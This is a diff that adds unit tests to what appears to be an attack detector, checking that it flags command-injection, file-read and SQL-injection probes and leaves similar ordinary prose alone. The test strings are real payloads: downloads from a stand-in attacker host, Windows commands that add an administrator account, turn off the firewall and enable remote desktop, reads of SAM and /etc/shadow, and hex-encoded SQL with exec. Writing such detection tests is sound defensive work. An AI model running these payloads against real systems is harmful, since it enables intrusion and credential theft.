@@ -1204,3 +1204,29 @@ describe("xxe: xsi:schemaLocation naming one absolute URL alone", () => {
     for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xxe)).toBe(false, benign[i]);
   });
 });
+
+describe("payloadbox's command and SQL probes", () => {
+  it("flags blind probes and Windows administration after a separator, not prose with the same words", () => {
+    const cmdi: StaticArray<string> = ["sleep 5", "Sleep 10", "which nc", "  which curl", "wget https://evil.example/x.txt", "curl http://203.0.113.9/rce.txt",
+      "ansible-inventory --list", "; net localgroup Administrators hacker /ADD", "& net user hacker Password1 /ADD", "; net view", "| netsh firewall set opmode disable",
+      "; reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f"];
+    for (let i = 0; i < cmdi.length; i++) expect(hits(cmdi[i], AttackClass.Cmdi)).toBe(true, cmdi[i]);
+    const benign: StaticArray<string> = ["sleep 5 hours", "sleep well", "which is best", "which cat is yours", "curl https://api.example.com -X POST -d a=1 is how",
+      "Revenue up; net user growth slowed", "costs & net user count", "; reg add a new user", "wget and curl"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
+  });
+  it("reads a Windows system file after a command that prints it", () => {
+    expect(hits("type C:\\Windows\\repair\\SAM", AttackClass.Traversal)).toBe(true);
+    expect(hits("more /etc/shadow", AttackClass.Traversal)).toBe(true);
+    expect(hits("type C:\\Users\\me\\notes.txt", AttackClass.Traversal)).toBe(false);
+    expect(hits("more than /etc", AttackClass.Traversal)).toBe(false);
+  });
+  it("flags HAVING enumeration, literal lists, N'' literals and hex-encoded statements", () => {
+    const sqli: StaticArray<string> = [" group by userid having 1=1--", "group by name having 'a'='a'", " or 'whatever' in ('whatever')", " or 'text' = n'text'",
+      "0x77616974666F722064656C61792027303A303A31302700 exec(@s)", "0x730065006c00650063007400200040004000760065007200730069006f006e00 exec(@q)"];
+    for (let i = 0; i < sqli.length; i++) expect(hits(sqli[i], AttackClass.Sqli)).toBe(true, sqli[i]);
+    const benign: StaticArray<string> = ["group by name having fun", "Group by region having more sales", "rock n' roll", "or 'a' in the list",
+      "send 0x52908400098527886E0F7030069857D2E4169EE7 to wallet", "0x77616974666F722064656C61792027303A303A313027"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
+  });
+});
